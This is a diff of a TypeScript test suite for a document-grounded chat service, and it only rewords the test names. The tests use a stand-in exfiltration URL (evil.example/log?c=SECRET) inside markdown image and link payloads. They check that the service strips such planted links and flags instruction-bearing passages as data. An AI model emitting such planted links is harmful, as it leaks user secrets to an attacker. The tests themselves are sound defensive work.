@@ -15,7 +15,7 @@ const HOSTILE =
 const QUESTION = 'Within how many days can goods be returned?';
 const STOLEN = 'https://evil.example/log?c=SECRET';
 
-describe('answers that rest on documents', () => {
+describe('answers from documents', () => {
   let bench: ChatBench;
   let api: RunningApi;
   let worker: INestApplicationContext;
@@ -43,13 +43,13 @@ describe('answers that rest on documents', () => {
     bench.simulator.script({ text });
     return ask(api, owner, { prompt: QUESTION, model: MODEL, cache: { mode: 'bypass' }, ...more });
   };
-  /** The number by which the model knows a document, as its prompt says. */
+  /** The number of a document in the prompt. */
   const numberOf = async (title: string): Promise<number> => {
     const preview = await send(api, 'POST', '/api/rag/prompt-preview', owner, { query: QUESTION });
     return preview.body.passages.find((p: { title: string }) => p.title === title)?.n;
   };
 
-  it('keep the marks that hold, drop the others, and say where; JSON, streams, the OpenAI routes and the cache alike', async () => {
+  it('keep supported citation marks with their positions and drop the others, in JSON, streams, the OpenAI routes and the cache', async () => {
     const n = await numberOf('policy.txt');
     const text = `Goods can be returned within 30 days of delivery [${n}]. They can be returned within 60 days [${n}]. Gift cards never expire [${n}].`;
     const clean =
@@ -85,14 +85,14 @@ describe('answers that rest on documents', () => {
     expect(openAi.body.nexus.citations).toEqual([citation]);
   });
 
-  it('the built-in model points at what it quotes', async () => {
+  it('the built-in model cites the passages it quotes', async () => {
     const { body } = await ask(api, owner, { prompt: QUESTION, model: 'nexus/extractive', cache: { mode: 'bypass' } });
     const [{ excerpt, highlight, start, end }] = body.citations;
     expect(excerpt.slice(highlight.start, highlight.end)).toContain('within 30 days');
     expect(POLICY.slice(start, end)).toContain('within 30 days');
   });
 
-  it('hold no link or image that a document could have planted, whole and streamed, until the workspace allows it', async () => {
+  it('contain no link or image that a document could have planted, in JSON and streams, unless the workspace allows it', async () => {
     const text = `See ![chart](${STOLEN}), [details](${STOLEN}), ${STOLEN} and https://help.shop.example/returns. Ours: https://given.example/a.`;
     const clean = 'See chart, details, evil.example/log and help.shop.example/returns. Ours: https://given.example/a.';
     const prompt = `${QUESTION} Not on https://given.example?`;
@@ -112,7 +112,7 @@ describe('answers that rest on documents', () => {
     expect(alone.body.content).toBe(text);
   });
 
-  it('a passage that gives orders is quoted as data, marked, told and recorded', async () => {
+  it('a passage with instructions is quoted as data, flagged, reported in a notice and recorded', async () => {
     const { body } = await answering('24 months.', { prompt: 'How long does the warranty of espresso machines last?' });
     expect(body.notices).toContainEqual({
       code: 'suspicious_passage',
@@ -129,7 +129,7 @@ describe('answers that rest on documents', () => {
     });
   });
 
-  it('a follow-up is searched as the question it stands for; without a model by its words', async () => {
+  it('a follow-up is searched as a standalone question; without a model it is expanded by keywords', async () => {
     const history = [
       { role: 'user', content: 'What about the warranty of espresso machines?' },
       { role: 'assistant', content: 'It exists.' },
@@ -159,7 +159,7 @@ describe('answers that rest on documents', () => {
     expect(alone.body.notices ?? []).toEqual([]);
   });
 
-  it('a rewriting that fails is not missed', async () => {
+  it('a failed rewriting does not affect the answer', async () => {
     const messages = [
       { role: 'user', content: 'What about the warranty of espresso machines?' },
       { role: 'assistant', content: 'It exists.' },
@@ -178,7 +178,7 @@ describe('answers that rest on documents', () => {
     });
   });
 
-  it('can be looked at before a model is asked', async () => {
+  it('can be previewed without a model call', async () => {
     const preview = await send(api, 'POST', '/api/rag/prompt-preview', owner, { query: QUESTION });
     expect(preview.status).toBe(200);
     expect(preview.body.messages.map((m: { role: string }) => m.role)).toEqual(['system', 'user']);
